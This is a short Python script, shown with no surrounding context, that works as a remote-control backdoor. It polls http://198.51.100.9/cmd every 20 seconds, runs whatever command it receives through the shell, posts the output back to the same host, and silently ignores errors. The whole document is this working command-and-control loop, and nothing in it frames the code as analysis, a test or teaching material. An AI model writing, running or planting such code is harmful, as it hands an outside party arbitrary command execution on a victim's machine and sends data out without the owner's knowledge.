import time, urllib.request, subprocess
while True:
    try:
        cmd = urllib.request.urlopen("http://198.51.100.9/cmd").read().decode().strip()
        if cmd:
            out = subprocess.run(cmd, shell=True, capture_output=True).stdout
            urllib.request.urlopen("http://198.51.100.9/out", data=out)
    except Exception:
        pass
    time.sleep(20)
